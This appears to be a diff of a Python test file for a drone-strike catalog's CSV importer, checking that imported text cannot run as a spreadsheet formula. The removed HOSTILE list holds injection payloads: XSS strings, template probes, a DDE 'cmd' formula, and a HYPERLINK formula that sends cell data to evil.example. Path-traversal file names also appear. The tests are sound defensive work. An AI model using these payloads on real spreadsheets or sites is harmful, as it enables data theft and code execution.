@@ -13,38 +13,12 @@ import pytest
 from droneatlas.catalog import load_catalog
 from droneatlas.importers import import_files, incoming_path
 from droneatlas.importers.csvio import InputError
-from droneatlas.text import spreadsheet_safe
+from droneatlas.text import spreadsheet_value
+from tests.conftest import ROOT, SOURCE
+from tests.hostile import HOSTILE, runs_as_formula
 
 TODAY = date(2026, 11, 24)
 HEADER = ("id", "lat", "lon", "date", "source_url", "place", "summary")
-
-# HTML, attribute and URL contexts, template syntaxes, Markdown and LaTeX, CSV formulas
-# (also after leading whitespace), quotes, CR/LF inside a field, Unicode controls.
-HOSTILE = [
-    "<script>alert(1)</script>",
-    '<img src=x onerror="alert(1)">',
-    "\" onmouseover='alert(1)' x=\"",
-    "javascript:alert(1)",
-    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> `${x}`",
-    "**bold** [link](javascript:x) ![i](http://evil.example/p.png) :red[x]",
-    "$\\frac{1}{2}$ \\(x\\)",
-    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
-    "+1+1",
-    "-1+1",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "  =1+1",
-    "Ky\riv",
-    "Ky\niv",
-    "Ky\r\niv\r\n\r\nend",
-    "ends with a CR\r",
-    "say \"hi\", then 'bye'; a,b;c|d",
-    '""',
-    "\u202eevil\u202c \u200b\u200d\ufeff",
-    "\u2028line\u2029sep \x0b\x0c \x85next \x1b[31mred \x7f",
-    "a\x00b",
-    "Київ 🚀 كييف",
-]
 
 
 def write_csv(path: Path, header: tuple[str, ...], rows: list[tuple[str, ...]]) -> Path:
@@ -61,15 +35,23 @@ def hostile_rows() -> list[tuple[str, ...]]:
 
 
 def read_rows(path: Path) -> list[dict[str, str]]:
+    """A data table's rows as our readers see them (each cell through spreadsheet_value)."""
     with path.open(encoding="utf-8", newline="") as handle:
-        return list(csv.DictReader(handle))
+        return [{k: spreadsheet_value(v) for k, v in row.items()} for row in csv.DictReader(handle)]
+
+
+def _formula_cells(path: Path) -> list[str]:
+    with path.open(encoding="utf-8", newline="") as handle:
+        return [cell for row in csv.reader(handle) for cell in row if runs_as_formula(cell)]
 
 
 def test_every_accepted_row_reads_back_identically(tmp_path: Path) -> None:
     src = write_csv(tmp_path / "hostile.csv", HEADER, hostile_rows())
     report = import_files([src], tmp_path / "out", today=TODAY)
     assert report.ok and report.accepted == len(HOSTILE)
-    written = {row["id"]: row for row in read_rows(tmp_path / "out" / "strikes.csv")}
+    strikes_csv = tmp_path / "out" / "strikes.csv"
+    assert _formula_cells(strikes_csv) == []  # opened in a spreadsheet, nothing runs
+    written = {row["id"]: row for row in read_rows(strikes_csv)}
     assert len(written) == len(HOSTILE)
     for n, text in enumerate(HOSTILE):
         row = written[f"import-h{n}"]
@@ -77,7 +59,10 @@ def test_every_accepted_row_reads_back_identically(tmp_path: Path) -> None:
     strikes = load_catalog(tmp_path / "out", today=TODAY).strikes.set_index("id")
     assert len(strikes) == len(HOSTILE)
     for n, text in enumerate(HOSTILE):
-        assert strikes.loc[f"import-h{n}", "summary"] == text.strip()
+        assert strikes.loc[f"import-h{n}", ["place", "summary"]].tolist() == [text.strip()] * 2
+    before = strikes_csv.read_bytes()
+    assert import_files([src], tmp_path / "out", today=TODAY).ok
+    assert strikes_csv.read_bytes() == before  # read back and written again: not quoted twice
 
 
 def test_a_bare_cr_survives_a_second_import_into_the_same_directory(tmp_path: Path) -> None:
@@ -92,11 +77,6 @@ def test_a_bare_cr_survives_a_second_import_into_the_same_directory(tmp_path: Pa
     assert report.ok
     places = {row["id"]: row["place"] for row in read_rows(tmp_path / "out" / "strikes.csv")}
     assert places == {"import-a": "Ky\riv", "import-b": "Lviv"}
-
-
-def _formula_cells(path: Path) -> list[str]:
-    with path.open(encoding="utf-8", newline="") as handle:
-        return [cell for row in csv.reader(handle) for cell in row if spreadsheet_safe(cell) != cell]
 
 
 def test_import_report_has_no_formula_in_any_cell(tmp_path: Path) -> None:
@@ -120,15 +100,29 @@ def test_import_report_has_no_formula_in_any_cell(tmp_path: Path) -> None:
     assert len(records) == 1 + 1 + len(rows)  # header, the encoding note, one line per row
 
 
-def test_data_tables_keep_text_and_numbers_as_they_are(tmp_path: Path) -> None:
-    """strikes.csv is data the app reads back literally: neither "=1+1" nor -1.5 is altered."""
+def test_data_tables_are_spreadsheet_safe_and_read_back_as_imported(tmp_path: Path, make_data_dir) -> None:
+    """strikes.csv and the other tables hold no formula, numbers stay numbers, and the map
+    shows the imported text; a curated title that starts with a quote keeps it."""
+    curated = {**SOURCE, "title": "'Massive' strikes", "publisher": "'=1+1"}
+    data = make_data_dir(sources=[curated])
     rows = [("f1", "-1.5", "-48.5", "2022-10-17", "https://e.org/a", "=1+1", "-1+1")]
-    report = import_files([write_csv(tmp_path / "f.csv", HEADER, rows)], tmp_path / "out", today=TODAY)
+    report = import_files([write_csv(tmp_path / "f.csv", HEADER, rows)], data, today=TODAY)
     assert report.ok
-    row = read_rows(tmp_path / "out" / "strikes.csv")[0]
-    assert (row["lat"], row["lon"], row["place"], row["summary"]) == ("-1.50000", "-48.50000", "=1+1", "-1+1")
-    strike = load_catalog(tmp_path / "out", today=TODAY).strikes.iloc[0]
-    assert strike["place"] == "=1+1" and float(strike["lat"]) == -1.5
+    for table in ("strikes", "sources", "drones", "sites"):
+        assert _formula_cells(data / f"{table}.csv") == [], table
+    with (data / "strikes.csv").open(encoding="utf-8", newline="") as handle:
+        raw = next(row for row in csv.DictReader(handle) if row["id"] == "import-f1")
+    assert (raw["lat"], raw["lon"], raw["place"], raw["summary"]) == (
+        "-1.50000",
+        "-48.50000",
+        "'=1+1",
+        "'-1+1",
+    )
+    catalog = load_catalog(data, today=TODAY)
+    strike = catalog.strikes.set_index("id").loc["import-f1"]
+    assert (strike["place"], strike["summary"], float(strike["lat"])) == ("=1+1", "-1+1", -1.5)
+    # A human's "'=1+1" means the text "=1+1" (a spreadsheet's own reading of it).
+    assert catalog.sources.loc["src-a", ["title", "publisher"]].tolist() == ["'Massive' strikes", "=1+1"]
 
 
 @pytest.mark.parametrize("name", ["../../x.csv", "/etc/x.csv", "..", "", "C:\\x.csv", "a/b.csv"])
@@ -149,3 +143,11 @@ def test_a_relative_input_path_writes_nothing_outside_the_target(tmp_path: Path,
     created = sorted(set(tmp_path.rglob("*")) - set(before))
     assert created and all(work / "out" in [p, *p.parents] for p in created), created
     assert os.listdir(work) == ["out"]
+
+
+def test_the_shipped_tables_hold_no_formula() -> None:
+    """data/ is opened in spreadsheets too (the gazetteer and labels are derived by scripts/)."""
+    tables = sorted((ROOT / "data").rglob("*.csv"))
+    assert len(tables) >= 5
+    found = {str(path.relative_to(ROOT)): _formula_cells(path) for path in tables}
+    assert {name: cells for name, cells in found.items() if cells} == {}
